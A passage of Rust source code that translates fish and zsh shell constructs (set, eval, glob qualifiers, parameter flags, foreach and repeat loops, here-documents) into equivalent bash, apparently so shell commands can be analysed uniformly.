                n += 1;
                let _ = write!(prologue, "{o}=\"${n}\"; ");
            }
        }
        let b = self.body(&["end"])?;
        let tail = self.block_end()?;
        let call = if handler {
            format!("; {name}")
        } else {
            String::new()
        };
        Some(format!(
            "{name}() {{ {prologue}{}; }}{tail}{call}",
            nonempty(&b.text)
        ))
    }

    /// A simple command with its redirections; fish's builtins whose syntax differs from
    /// bash's (`set`, `eval`, `source` on standard input) are rewritten.
    fn simple(&mut self) -> Option<String> {
        let mut words: Vec<FWord> = Vec::new();
        let mut redirs: Vec<String> = Vec::new();
        loop {
            match self.peek()? {
                Tok::Word(_) => {
                    if let Some(Tok::Word(w)) = self.next() {
                        words.push(w);
                    }
                }
                Tok::Redir(_) => {
                    if let Some(Tok::Redir(r)) = self.next() {
                        redirs.push(r);
                    }
                }
                _ => break,
            }
        }
        if words.is_empty() && redirs.is_empty() {
            return None;
        }
        let head = match words.first().and_then(FWord::keyword) {
            Some("set") => self.set(&words[1..]),
            Some("eval") => self.eval(&words[1..])?,
            Some("source" | ".") if words.len() == 1 || words[1].value.as_deref() == Some("-") => {
                "source /dev/stdin".to_owned()
            }
            _ => {
                let mut parts: Vec<String> = words.iter().map(|w| w.bash.clone()).collect();
                if let Some(first) = parts.first_mut()
                    && BASH_RESERVED.contains(&first.as_str())
                {
                    *first = format!("'{first}'");
                }
                parts.join(" ")
            }
        };
        let mut out = head;
        for r in redirs {
            if !out.is_empty() {
                out.push(' ');
            }
            out.push_str(&r);
        }
        Some(out)
    }

    /// `eval ARGS`: fish code again; read as fish when it is known, left to the run-time
    /// string rule otherwise.
    fn eval(&self, args: &[FWord]) -> Option<String> {
        let known: Option<Vec<&str>> = args.iter().map(|w| w.value.as_deref()).collect();
        match known {
            Some(parts) => {
                let inner = fish_to_bash(&parts.join(" "), self.depth + 1)?;
                Some(format!("eval {}", bash_lit(&inner)))
            }
            None => Some(format!(
                "eval {}",
                args.iter()
                    .map(|w| w.bash.as_str())
                    .collect::<Vec<_>>()
                    .join(" ")
            )),
        }
    }

    /// `set [OPTIONS] NAME VALUE…`: an assignment (`-x` exports it, `-a`/`-p` append or
    /// prepend, `-e` erases); query and listing forms assign nothing (their words are still
    /// expanded, so a substitution in them runs).
    fn set(&mut self, args: &[FWord]) -> String {
        let all_words = || {
            let mut s = String::from(":");
            for w in args {
                s.push(' ');
                s.push_str(&w.bash);
            }
            s
        };
        let mut export = false;
        let mut erase = false;
        let mut append = false;
        let mut prepend = false;
        let mut inert = false;
        let mut k = 0;
        while let Some(o) = args.get(k).and_then(|w| w.value.as_deref()) {
            if o == "--" {
                k += 1;
                break;
            }
            if let Some(long) = o.strip_prefix("--") {
                match long {
                    "export" => export = true,
                    "erase" => erase = true,
                    "append" => append = true,
                    "prepend" => prepend = true,
                    "query" | "names" | "show" => inert = true,
                    _ => {}
                }
            } else if let Some(short) = o.strip_prefix('-').filter(|s| !s.is_empty()) {
                for c in short.chars() {
                    match c {
                        'x' => export = true,
                        'e' => erase = true,
                        'a' => append = true,
                        'p' => prepend = true,
                        'q' | 'n' | 'S' => inert = true,
                        _ => {}
                    }
                }
            } else {
                break;
            }
            k += 1;
        }
        let Some(target) = args.get(k) else {
            return all_words();
        };
        let Some(name) = target
            .value
            .as_deref()
            .map(|n| n.split('[').next().unwrap_or(n))
            .filter(|n| is_name(n))
        else {
            return all_words();
        };
        if inert {
            return all_words();
        }
        if erase {
            return format!("unset {name}");
        }
        let values: Vec<&str> = args[k + 1..].iter().map(|w| w.bash.as_str()).collect();
        if export || name.ends_with("PATH") {
            // An exported list is one string: `:`-joined for path lists, space-joined else.
            let join = if name.ends_with("PATH") { ":" } else { "' '" };
            let mut v = values.join(join);
            if append {
                v = format!("\"${{{name}}}\"{join}{v}");
            } else if prepend {
                v = format!("{v}{join}\"${{{name}}}\"");
            }
            if v.is_empty() {
                v.push_str("''");
            }
            let kw = if export { "export " } else { "" };
            return format!("{kw}{name}={v}");
        }
        if !matches!((values.as_slice(), append, prepend), ([_], false, false)) {
            self.lists.insert(name.to_owned());
        }
        match (values.as_slice(), append, prepend) {
            ([one], false, false) => format!("{name}={one}"),
            (_, true, _) => format!("{name}+=({})", values.join(" ")),
            (_, _, true) => format!("{name}=({} \"${{{name}[@]}}\")", values.join(" ")),
            _ => format!("{name}=({})", values.join(" ")),
        }
    }
}

fn nonempty(s: &str) -> &str {
    if s.trim().is_empty() { ":" } else { s }
}

// ---------------------------------------------------------------------------------------------
// zsh

fn zsh_to_bash(src: &str, depth: usize) -> Option<String> {
    if depth > MAX_DEPTH {
        return None;
    }
    let mut z = Zsh {
        s: src.as_bytes(),
        i: 0,
        edits: Vec::new(),
        depth,
        heredocs: Vec::new(),
    };
    z.list(Stop::Eof)?;
    if z.i < z.s.len() {
        return None;
    }
    let mut edits = z.edits;
    edits.sort_by_key(|e| (e.0, e.1));
    let mut out = String::with_capacity(src.len() + 16);
    let mut at = 0;
    for (start, end, text) in edits {
        if start < at || end < start {
            return None;
        }
        out.push_str(src.get(at..start)?);
        out.push_str(&text);
        at = end;
    }
    out.push_str(src.get(at..)?);
    Some(out)
}

/// Where a zsh list ends.
#[derive(Clone, Copy)]
enum Stop {
    /// The end of the input.
    Eof,
    /// An unquoted `)` (consumed): `$(…)`, `(…)`, `<(…)`.
    Paren,
    /// A bare word at a command's start (not consumed): `end` of `foreach`, `}` of a brace
    /// body (also where zsh takes it after arguments: `{ print $f }`).
    Word(&'static str),
    /// The end of one sublist (`;`, newline, `&`, `)`; not consumed): a short loop's body.
    Sublist,
}

/// A zsh reader that copies the text and records edits that turn zsh-only constructs into
/// their bash spelling: glob qualifiers dropped (or their code kept as a substitution),
/// parameter flags dropped (their inner expression kept), `=(…)` as `<(…)`, `repeat`,
/// `foreach` and the short loop forms as `for … do … done`, `noglob`/`nocorrect` dropped.
struct Zsh<'a> {
    s: &'a [u8],
    i: usize,
    edits: Vec<(usize, usize, String)>,
    depth: usize,
    /// Here-documents whose bodies start at the next newline: (delimiter, strip tabs).
    heredocs: Vec<(Vec<u8>, bool)>,
}

fn is_word_end(c: u8) -> bool {
    matches!(
        c,
        b' ' | b'\t' | b'\r' | b'\n' | b';' | b'&' | b'|' | b'<' | b'>' | b')'
    )
}

impl Zsh<'_> {
    fn at(&self, k: usize) -> Option<u8> {
        self.s.get(self.i + k).copied()
    }

    fn edit(&mut self, start: usize, end: usize, text: &str) {
        self.edits.push((start, end, text.to_owned()));
    }

    fn skip_blank(&mut self) {
        while let Some(c) = self.at(0) {
            if c == b' ' || c == b'\t' || c == b'\r' {
                self.i += 1;
            } else if c == b'\\' && self.at(1) == Some(b'\n') {
                self.i += 2;
            } else {
                break;
            }
        }
    }

    /// The bodies of pending here-documents (the newline read).
    fn heredoc_bodies(&mut self) {
        for (delim, strip) in std::mem::take(&mut self.heredocs) {
            loop {
                if self.i >= self.s.len() {
                    return;
                }
                let end = self.s[self.i..]
                    .iter()
                    .position(|&c| c == b'\n')
                    .map_or(self.s.len(), |p| self.i + p);
                let mut line = &self.s[self.i..end];
                if strip {
                    while let [b'\t', rest @ ..] = line {
                        line = rest;
                    }
                }
                self.i = (end + 1).min(self.s.len());
                if line == delim.as_slice() {
                    break;
                }
            }
        }
    }

    fn depth_in(&mut self) -> Option<()> {
        self.depth += 1;
        (self.depth <= MAX_DEPTH).then_some(())
    }

    /// A list of commands up to `stop`.
    #[allow(clippy::too_many_lines)]
    fn list(&mut self, stop: Stop) -> Option<()> {
        self.depth_in()?;
        let mut cmd_start = true;
        // `{` groups opened at a command's start in this list: zsh also takes a `}` after
        // arguments as their end (`{ echo a; echo b } > out`), bash needs a `;` before it.
        let mut braces = 0usize;
        loop {
            self.skip_blank();
            let Some(c) = self.at(0) else {
                self.depth -= 1;
                return matches!(stop, Stop::Eof | Stop::Sublist).then_some(());
            };
            match c {
                b'\n' | b';' | b'&'
                    if matches!(stop, Stop::Sublist)
                        && !(c == b'&' && matches!(self.at(1), Some(b'&' | b'>'))) =>
                {
                    break;
                }
                b'\n' => {
                    self.i += 1;
                    self.heredoc_bodies();
                    cmd_start = true;
                }
                b';' => {
                    // `;;`, `;&`, `;|` end case items; `case` itself is not read here.
                    self.i += 1;
                    cmd_start = true;
                }
                b'&' => match self.at(1) {
                    Some(b'&') => {
                        self.i += 2;
                        cmd_start = true;
                    }
                    // `&|`/`&!`: background and disown.
                    Some(b'|' | b'!') => {
                        self.edit(self.i, self.i + 2, "&");
                        self.i += 2;
                        cmd_start = true;
                    }
                    Some(b'>') => self.redirection()?,
                    _ => {
                        self.i += 1;
                        cmd_start = true;
                    }
                },
                b'|' => {
                    self.i += if matches!(self.at(1), Some(b'|' | b'&')) {
                        2
                    } else {
                        1
                    };
                    cmd_start = true;
                }
                b')' => {
                    if matches!(stop, Stop::Sublist) {
                        break;
                    }
                    if !matches!(stop, Stop::Paren) {
                        return None;
                    }
                    self.i += 1;
                    self.depth -= 1;
                    return Some(());
                }
                b'(' if cmd_start => {
                    if self.at(1) == Some(b'(') {
                        self.balanced()?;
                    } else {
                        self.i += 1;
                        self.list(Stop::Paren)?;
                    }
                    cmd_start = false;
                }
                // `name () { … }`: a function definition.
                b'(' if self.at(1) == Some(b')') => {
                    self.i += 2;
                    cmd_start = true;
                }
                // `(#i)*.md`: glob flags opening a pattern.
                b'(' if self.at(1) == Some(b'#') => {
                    self.word()?;
                    cmd_start = false;
                }
                b'(' => return None,
                b'<' | b'>' if self.at(1) != Some(b'(') => self.redirection()?,
                b'#' => {
                    while self.at(0).is_some_and(|c| c != b'\n') {
                        self.i += 1;
                    }
                }
                _ => {
                    let start = self.i;
                    let plain = self.word()?;
                    let word = Some(plain.as_str()).filter(|w| !w.is_empty());
                    if let Stop::Word(w) = stop
                        && word == Some(w)
                        && (cmd_start || w == "}")
                    {
                        self.i = start;
                        if !cmd_start {
                            self.edit(start, start, "; ");
                        }
                        break;
                    }
                    if word == Some("}") && braces > 0 {
                        braces -= 1;
                        if !cmd_start {
                            self.edit(start, start, "; ");
                        }
                        cmd_start = false;
                        continue;
                    }
                    if !cmd_start {
                        continue;
                    }
                    match word {
                        Some("{") => braces += 1,
                        Some("noglob" | "nocorrect") => {
                            let end = self.i;
                            self.skip_blank();
                            self.edit(start, self.i.max(end), "");
                        }
                        // zsh's `print` writes its arguments like `echo` (its options
                        // only change the format).
                        Some("print") => {
                            self.edit(start, self.i, "echo");
                            cmd_start = false;
                        }
                        Some("repeat") => self.repeat(start)?,
                        Some("for") => self.for_loop(start, false)?,
                        Some("foreach") => self.for_loop(start, true)?,
                        Some("[[") => {
                            self.test_expr()?;
                            cmd_start = false;
                        }
                        Some("case" | "select" | "always" | "coproc") => return None,
                        Some(
                            "if" | "then" | "else" | "elif" | "while" | "until" | "do" | "!"
                            | "time" | "function" | "builtin" | "command" | "exec" | "nohup",
                        ) => {}
                        Some(w) if is_assignment(w) => {}
                        _ => cmd_start = false,
                    }
                }
            }
        }
        self.depth -= 1;
        Some(())
    }

    /// `[[ … ]]`: its words up to `]]` (parentheses and `<`/`>` are operators there).
    fn test_expr(&mut self) -> Option<()> {
        loop {
            self.skip_blank();
            let c = self.at(0)?;
            if c == b']' && self.at(1) == Some(b']') && self.at(2).is_none_or(is_word_end) {
                self.i += 2;
                return Some(());
            }
            if matches!(c, b'(' | b')' | b'!' | b'<' | b'>' | b'&' | b'|' | b'\n') {
                self.i += 1;
            } else {
                self.word()?;
            }
        }
    }

    /// `((…))` and `$((…))` (at the first `(`): skipped to the balancing `)`.
    fn balanced(&mut self) -> Option<()> {
        let mut depth = 0usize;
        loop {
            match self.at(0)? {
                b'(' => depth += 1,
                b')' => {
                    depth -= 1;
                    if depth == 0 {
                        self.i += 1;
                        return Some(());
                    }
                }
                b'\'' => {
                    self.i += 1;
                    while self.at(0)? != b'\'' {
                        self.i += 1;
                    }
                }
                b'$' if self.at(1) == Some(b'{') => {
                    self.param()?;
                    continue;
                }
                b'$' if self.is_set_test() => continue,
                _ => {}
            }
            self.i += 1;
        }
    }

    /// A redirection operator and its target; zsh's `>!`/`>>!` (clobber) are bash's `>|`/`>>`.
    fn redirection(&mut self) -> Option<()> {
        let start = self.i;
        if self.at(0) == Some(b'&') {
            self.i += 1;
        }
        let op = self.at(0)?;
        self.i += 1;
        let mut heredoc = None;
        if op == b'<' && self.at(0) == Some(b'<') {
            self.i += 1;
            if self.at(0) == Some(b'<') {
                self.i += 1;
            } else if self.at(0) == Some(b'-') {
                self.i += 1;
                heredoc = Some(true);
            } else {
                heredoc = Some(false);
            }
        } else if op == b'>' && self.at(0) == Some(b'>') {
            self.i += 1;
        }
        match self.at(0) {
            Some(b'!') => {
                let text = if self.i - start >= 2
                    && self.s.get(self.i - 1) == Some(&b'>')
                    && self.s.get(self.i - 2) == Some(&b'>')
                {
                    ""
                } else {
                    "|"
                };
                self.edit(self.i, self.i + 1, text);
                self.i += 1;
            }
            Some(b'|' | b'&' | b'>') => self.i += 1,
            _ => {}
        }
        if self.s.get(self.i - 1) == Some(&b'&') {
            // `>&2`, `2>&-`.
            while self.at(0).is_some_and(|c| c.is_ascii_digit() || c == b'-') {
                self.i += 1;
            }
            if self.at(0).is_none_or(is_word_end) {
                return Some(());
            }
        }
        self.skip_blank();
        let start = self.i;
        self.word()?;
        if let Some(strip) = heredoc {
            let delim: Vec<u8> = self.s[start..self.i]
                .iter()
                .copied()
                .filter(|c| !matches!(c, b'\'' | b'"' | b'\\'))
                .collect();
            self.heredocs.push((delim, strip));
        }
        Some(())
    }

    /// One word; its text when it is bare (no quoting or expansion), for keywords, or an
    /// empty text when it is not.
    fn word(&mut self) -> Option<String> {
        let start = self.i;
        let mut glob = false;
        let mut bare = true;
        if self.at(0) == Some(b'=') && self.at(1) == Some(b'(') {
            // `=(cmd)`: the output in a temporary file, as `<(cmd)` names it.
            self.edit(self.i, self.i + 1, "<");
            self.i += 2;
            self.list(Stop::Paren)?;
            bare = false;
        } else if matches!(self.at(0), Some(b'<' | b'>')) && self.at(1) == Some(b'(') {
            self.i += 2;
            self.list(Stop::Paren)?;
            bare = false;
        }
        while let Some(c) = self.at(0) {
            if is_word_end(c) {
                break;
            }
            match c {
                b'\\' => {
                    bare = false;
                    self.i += 2;
                }
                b'\'' => {
                    bare = false;
                    self.i += 1;
                    while self.at(0)? != b'\'' {
                        self.i += 1;
                    }
                    self.i += 1;
                }
                b'"' => {
                    bare = false;
                    self.double_quoted()?;
                }
                b'`' => {
                    bare = false;
                    self.backquoted()?;
                }
                b'$' => {
                    bare = false;
                    self.dollar()?;
                }
                b'*' | b'?' | b'[' => {
                    glob = true;
                    self.i += 1;
                }
                b'(' => {
                    let so_far = self.s.get(start..self.i)?;
                    if so_far.ends_with(b"=") && is_assignment(std::str::from_utf8(so_far).ok()?) {
                        self.array()?;
                        bare = false;
                    } else if self.at(1) == Some(b')') && !glob {
                        // `name()`: a function definition; the list reads the `()`.
                        break;
                    } else if self.at(1) == Some(b'#') && self.at(2) != Some(b'q') {
                        self.glob_flags()?;
                        glob = true;
                        bare = false;
                    } else {
                        // A qualifier makes a word a pattern even without wildcards
                        // (`build(N)`); a group that is not one is not read.
                        self.qualifier()?;
                        glob = true;
                        bare = false;
                    }
                }
                _ => self.i += 1,
            }
        }
        if self.i == start {
            return None;
        }
        let text = std::str::from_utf8(self.s.get(start..self.i)?).ok()?;
        Some(if bare && !glob {
            text.to_owned()
        } else {
            String::new()
        })
    }

    /// `name=(a b c)`: the array's elements (at the `(`).
    fn array(&mut self) -> Option<()> {
        self.depth_in()?;
        let r = self.elements();
        self.depth -= 1;
        r
    }

    fn elements(&mut self) -> Option<()> {
        self.i += 1;
        loop {
            self.skip_blank();
            match self.at(0)? {
                b')' => {
                    self.i += 1;
                    return Some(());
                }
                b'\n' => self.i += 1,
                b'#' => {
                    while self.at(0).is_some_and(|c| c != b'\n') {
                        self.i += 1;
                    }
                }
                _ => {
                    self.word()?;
                }
            }
        }
    }

    /// `(#i)`, `(#l)`, `(#a2)`, `(#b)`: glob flags, which only change how names match.
    fn glob_flags(&mut self) -> Option<()> {
        let start = self.i;
        let mut k = 2;
        while self.at(k).is_some_and(|c| c.is_ascii_alphanumeric()) {
            k += 1;
        }
        if self.at(k) != Some(b')') {
            return None;
        }
        self.i += k + 1;
        self.edit(start, self.i, "");
        Some(())
    }

    /// A delimited argument (`:…:`, `[…]`, `{…}`): its content; the reader past it.
    fn delimited(&mut self) -> Option<String> {
        let open = self.at(0)?;
        if open.is_ascii_alphanumeric() || open == b')' {
            return None;
        }
        let close = match open {
            b'(' => b')',
            b'[' => b']',
            b'{' => b'}',
            b'<' => b'>',
            c => c,
        };
        self.i += 1;
        let start = self.i;
        while self.at(0)? != close {
            self.i += 1;
        }
        let text = std::str::from_utf8(self.s.get(start..self.i)?)
            .ok()?
            .to_owned();
        self.i += 1;
        Some(text)
    }

    fn digits(&mut self) {
        while self.at(0).is_some_and(|c| c.is_ascii_digit()) {
            self.i += 1;
        }
    }

    /// A glob qualifier list (at its `(`): filters are dropped; code qualifiers (`e:…:`,
    /// `+func`, `oe:…:`) become command substitutions next to the pattern, so the code is
    /// analysed as run.
    fn qualifier(&mut self) -> Option<()> {
        let start = self.i;
        self.i += 1;
        if self.at(0) == Some(b'#') && self.at(1) == Some(b'q') {
            self.i += 2;
        }
        let mut codes: Vec<String> = Vec::new();
        let mut empty = true;
        loop {
            let c = self.at(0)?;
            if c == b')' {
                self.i += 1;
                break;
            }
            empty = false;
            self.i += 1;
            match c {
                b'.' | b'/' | b'@' | b'=' | b'p' | b'*' | b'r' | b'w' | b'x' | b'A' | b'I'
                | b'E' | b'R' | b'W' | b'X' | b's' | b'S' | b't' | b'U' | b'G' | b'N' | b'D'
                | b'n' | b'M' | b'T' | b'^' | b'-' | b',' | b'F' => {}
                b'%' => {
                    if matches!(self.at(0), Some(b'b' | b'c')) {
                        self.i += 1;
                    }
                }
                b'f' => {
                    if self
                        .at(0)
                        .is_some_and(|c| c.is_ascii_digit() || b"ugoa=+-".contains(&c))
                    {
                        while self
                            .at(0)
                            .is_some_and(|c| c.is_ascii_digit() || b"ugoarwxst=+-,".contains(&c))
                        {
                            self.i += 1;
                        }
                    } else {
                        self.delimited()?;
                    }
                }
                b'e' => codes.push(self.qualifier_code()?),
                b'+' => codes.push(self.qualifier_func()?),
                b'd' | b'Y' => self.digits(),
                b'l' => {
                    if matches!(self.at(0), Some(b'-' | b'+')) {
                        self.i += 1;
                    }
                    self.digits();
                }
                b'u' | b'g' => {
                    if self.at(0).is_some_and(|c| c.is_ascii_digit()) {
                        self.digits();
                    } else {
                        self.delimited()?;
                    }
                }
                b'a' | b'm' | b'c' | b'L' => {
                    if self.at(0).is_some_and(|c| b"MwhmskKpPgGtT".contains(&c)) {
                        self.i += 1;
                    }
                    if matches!(self.at(0), Some(b'-' | b'+')) {
                        self.i += 1;
                    }
                    self.digits();
                }
                b'o' | b'O' => match self.at(0)? {
                    b'e' => {
                        self.i += 1;
                        codes.push(self.qualifier_code()?);
                    }
                    b'+' => {
                        self.i += 1;
                        codes.push(self.qualifier_func()?);
                    }
                    b'n' | b'L' | b'l' | b'a' | b'm' | b'c' | b'd' | b'N' => self.i += 1,
                    _ => return None,
                },
                b'[' => {
                    while self
                        .at(0)
                        .is_some_and(|c| c.is_ascii_digit() || c == b',' || c == b'-')
                    {
                        self.i += 1;
                    }
                    if self.at(0)? != b']' {
                        return None;
                    }
                    self.i += 1;
                }
                b'P' => {
                    self.delimited()?;
                }
                b':' => {
                    // Modifiers (`:t`, `:r`, `:s/a/b/`) rename what is printed, not what
                    // is matched.
                    while self.at(0)? != b')' {
                        self.i += 1;
                    }
                }
                _ => return None,
            }
        }
        if empty {
            return None;
        }
        // The code runs once per file; it goes in words of its own after the pattern, so
        // the pattern keeps its path (`~/.ssh/*(e:…:)` is still `~/.ssh/*`). A qualifier is
        // the end of its word; one that is not (`(#q…)` inside a word) is not read.
        let mut text = String::new();
        if !codes.is_empty() && !self.at(0).is_none_or(is_word_end) {
            return None;
        }
        for code in codes {
            text.push_str(" \"$(");
            text.push_str(&code);
            text.push_str(")\"");
        }
        self.edit(start, self.i, &text);
        Some(())
    }

    /// `e:code:` (the `e` read): the code, read as zsh, in bash.
    fn qualifier_code(&mut self) -> Option<String> {
        let raw = self.delimited()?;
        let code = raw
            .strip_prefix('\'')
            .and_then(|r| r.strip_suffix('\''))
            .or_else(|| raw.strip_prefix('"').and_then(|r| r.strip_suffix('"')))
            .unwrap_or(&raw);
        zsh_to_bash(code, self.depth + 1)
    }

    /// `+name` (the `+` read): a function or command run per file.
    fn qualifier_func(&mut self) -> Option<String> {
        let start = self.i;
        while self
            .at(0)
            .is_some_and(|c| c.is_ascii_alphanumeric() || b"_-:.".contains(&c))
        {
            self.i += 1;
        }
        if self.i == start {
            return None;
        }
        let name = std::str::from_utf8(self.s.get(start..self.i)?).ok()?;
        Some(format!("{name} \"$REPLY\""))
    }

    fn double_quoted(&mut self) -> Option<()> {
        self.i += 1;
        loop {
            match self.at(0)? {
                b'"' => {
                    self.i += 1;
                    return Some(());
                }
                b'\\' => self.i += 2,
                b'$' => self.dollar()?,
                b'`' => self.backquoted()?,
                _ => self.i += 1,
            }
        }
    }

    fn backquoted(&mut self) -> Option<()> {
        self.i += 1;
        loop {
            match self.at(0)? {
                b'`' => {
                    self.i += 1;
                    return Some(());
                }
                b'\\' => self.i += 2,
                _ => self.i += 1,
            }
        }
    }

    /// An expansion at `$`.
    fn dollar(&mut self) -> Option<()> {
        if self.is_set_test() {
            return Some(());
        }
        match self.at(1) {
            Some(b'(') if self.at(2) == Some(b'(') => {
                self.i += 1;
                self.balanced()
            }
            Some(b'(') => {
                self.i += 2;
                self.list(Stop::Paren)
            }
            Some(b'{') => self.param(),
            Some(b'\'') => {
                self.i += 2;
                loop {
                    match self.at(0)? {
                        b'\'' => {
                            self.i += 1;
                            return Some(());
                        }
                        b'\\' => self.i += 2,
                        _ => self.i += 1,
                    }
                }
            }
            Some(b'[') => {
                while self.at(0)? != b']' {
                    self.i += 1;
                }
                self.i += 1;
                Some(())
            }
            _ => {
                self.i += 1;
                Some(())
            }
        }
    }

    /// `$+name`, `$+commands[rg]` (at the `$`): zsh's "is it set" test, 1 or 0; read as `1`.
    fn is_set_test(&mut self) -> bool {
        if self.at(1) != Some(b'+')
            || !self
                .at(2)
                .is_some_and(|c| c.is_ascii_alphabetic() || c == b'_')
        {
            return false;
        }
        let start = self.i;
        let mut k = 2;
        while self
            .at(k)
            .is_some_and(|c| c.is_ascii_alphanumeric() || c == b'_')
        {
            k += 1;
        }
        if self.at(k) == Some(b'[') {
            let mut j = k + 1;
            while let Some(c) = self.at(j) {
                j += 1;
                if c == b']' {
                    k = j;
                    break;
                }
                if !(c.is_ascii_alphanumeric() || b"_-.".contains(&c)) {
                    return false;
                }
            }
        }
        self.i += k;
        self.edit(start, self.i, "1");
        true
    }

    /// `${…}` (at the `$`): zsh's flags `(f)`, `(j:,:)` and prefixes `=`, `~`, `^`, `+` are
    /// dropped; `(P)` is bash's `!`; `(e)`, which expands the value again, is an `eval`. A
    /// nested expansion (`${(f)"$(cmd)"}`, `${${x%.c}:t}`) is kept for what it is, without the
    /// outer braces.
    fn param(&mut self) -> Option<()> {
        self.depth_in()?;
        let r = self.param_inner();
        self.depth -= 1;
        r
    }

    fn param_inner(&mut self) -> Option<()> {
        let open = self.i;
        self.i += 2;
        let mut eval = false;
        if self.at(0) == Some(b'(') {
            let flags_start = self.i;
            self.i += 1;
            let mut indirect = false;
            loop {
                let c = self.at(0)?;
                self.i += 1;
                match c {
                    b')' => break,
                    b'j' | b's' | b'l' | b'r' | b'Z' | b'g' | b'I' | b'_' => {
                        let delim = self.at(0)?;
                        self.delimited()?;
                        while self.at(0) == Some(delim) {
                            self.delimited()?;
                        }
                    }
                    b'e' => eval = true,
                    b'P' => indirect = true,
                    c if c.is_ascii_alphanumeric() || b"@#%~=!&*-+^:".contains(&c) => {}
                    _ => return None,
                }
            }
            let text = if indirect { "!" } else { "" };
            self.edit(flags_start, self.i, text);
        }
        // zsh's prefixes: `=` (split), `~` (glob), `^` (rc-expand), `+` (is set), and `#`
        // (length) before a nested expansion, whose code still runs.
        while let Some(c @ (b'=' | b'~' | b'^' | b'+' | b'#')) = self.at(0) {
            let next = self.at(1);
            if (c == b'+' && !next.is_some_and(|c| c.is_ascii_alphabetic() || c == b'_'))
                || (c == b'#' && !matches!(next, Some(b'"' | b'$')))
            {
                break;
            }
            self.edit(self.i, self.i + 1, "");
            self.i += 1;
        }
        // `${(%):-%n}`: no name; the value is the default word.
        if self.at(0) == Some(b':') && self.at(1) == Some(b'-') && !eval {
            self.edits.retain(|e| e.0 < open);
            self.edit(open, self.i + 2, "");
            self.i += 2;
            self.braced_rest()?;
            self.edit(self.i - 1, self.i, "");
            return Some(());
        }
        if matches!(self.at(0), Some(b'"' | b'$')) {
            if eval {
                return None;
            }
            // A nested expansion: drop `${…(flags)` before it and whatever follows it up to
            // the closing brace (a subscript, modifiers).
            self.edit(open, open + 2, "");
            if self.at(0) == Some(b'"') {
                self.double_quoted()?;
            } else {
                self.dollar()?;
            }
            let tail = self.i;
            self.braced_rest()?;
            self.edit(tail, self.i, "");
            return Some(());
        }
        self.braced_rest()?;
        if eval {
            self.edit(open, open + 2, "$(eval \"${");
            self.edit(self.i - 1, self.i, "}\")");
        }
        Some(())
    }

    /// The rest of a `${…}` up to and past its closing brace.
    fn braced_rest(&mut self) -> Option<()> {
        let mut depth = 0usize;
        loop {
            match self.at(0)? {
                b'}' if depth == 0 => {
                    self.i += 1;
                    return Some(());
                }
                b'}' => {
                    depth -= 1;
                    self.i += 1;
                }
                b'{' => {
                    depth += 1;
                    self.i += 1;
                }
                b'\\' => self.i += 2,
                b'\'' => {
                    self.i += 1;
                    while self.at(0)? != b'\'' {
                        self.i += 1;
                    }
                    self.i += 1;
                }
                b'"' => self.double_quoted()?,
                b'`' => self.backquoted()?,
                b'$' => self.dollar()?,
                _ => self.i += 1,
            }
        }
    }

    /// `repeat N` (read from `start`): runs its body N times; the body is read once.
    fn repeat(&mut self, start: usize) -> Option<()> {
        self.skip_blank();
        self.word()?;
        let end = self.i;
        self.skip_blank();
        let mut k = self.i;
        if self.at(0) == Some(b';') || self.at(0) == Some(b'\n') {
            k += 1;
            while self.s.get(k).is_some_and(|c| b" \t\n".contains(c)) {
                k += 1;
            }
        }
        if self.s.get(k..k + 2) == Some(b"do") && self.s.get(k + 2).is_none_or(|&c| is_word_end(c))
        {
            self.edit(start, k, "for _ in 1; ");
            self.i = k;
        } else {
            self.edit(start, end, "");
        }
        Some(())
    }

    /// `for NAME (WORDS) BODY`, `for NAME in WORDS; BODY` (short forms: one sublist, or a
    /// `{ … }` body) and `foreach NAME (WORDS) … end`, as `for NAME in WORDS; do …; done`.
    fn for_loop(&mut self, start: usize, foreach: bool) -> Option<()> {
        if foreach {
            self.edit(start, self.i, "for");
        }
        self.skip_blank();
        if self.at(0) == Some(b'(') {
            if foreach {
                return None;
            }
            // `for ((…))`: bash's arithmetic loop.
            self.balanced()?;
            return Some(());
        }
        let name = self.word()?;
        if !is_name(&name) {
            return None;
        }
        self.skip_blank();
        if self.at(0) == Some(b'(') {
            self.edit(self.i, self.i + 1, "in ");
            self.i += 1;
            loop {
                self.skip_blank();
                match self.at(0)? {
                    b')' => break,
                    b'\n' => self.i += 1,
                    _ => {
                        self.word()?;
                    }
                }
            }
            self.edit(self.i, self.i + 1, ";");
            self.i += 1;
        } else {
            let kw = self.i;
            if self.word()? != "in" {
                self.i = kw;
                return (!foreach).then_some(());
            }
            loop {
                self.skip_blank();
                match self.at(0)? {
                    b';' | b'\n' => {
                        self.i += 1;
                        break;
                    }
                    _ => {
                        self.word()?;
                    }
                }
            }
        }
        // The body.
        loop {
            self.skip_blank();
            match self.at(0) {
                Some(b'\n') => self.i += 1,
                Some(b';') if foreach => {
                    self.edit(self.i, self.i + 1, "");
                    self.i += 1;
                }
                _ => break,
            }
        }
        let body = self.i;
        if foreach {
            self.edit(body, body, "do ");
            self.list(Stop::Word("end"))?;
            self.edit(self.i, self.i + 3, "done");
            self.i += 3;
            return Some(());
        }
        let next = self.s.get(body..).unwrap_or(&[]);
        let word_is =
            |w: &[u8]| next.starts_with(w) && next.get(w.len()).is_none_or(|&c| is_word_end(c));
        if word_is(b"do") {
            return Some(());
        }
        self.edit(body, body, "do ");
        if word_is(b"{") {
            self.i += 1;
            self.list(Stop::Word("}"))?;
            self.i += 1;
            self.edit(self.i, self.i, "; done");
        } else {
            self.list(Stop::Sublist)?;
            self.edit(self.i, self.i, "; done");
        }
        Some(())
    }
}

fn is_assignment(w: &str) -> bool {
    w.split_once('=')
        .is_some_and(|(n, _)| is_name(n.strip_suffix('+').unwrap_or(n)))
}
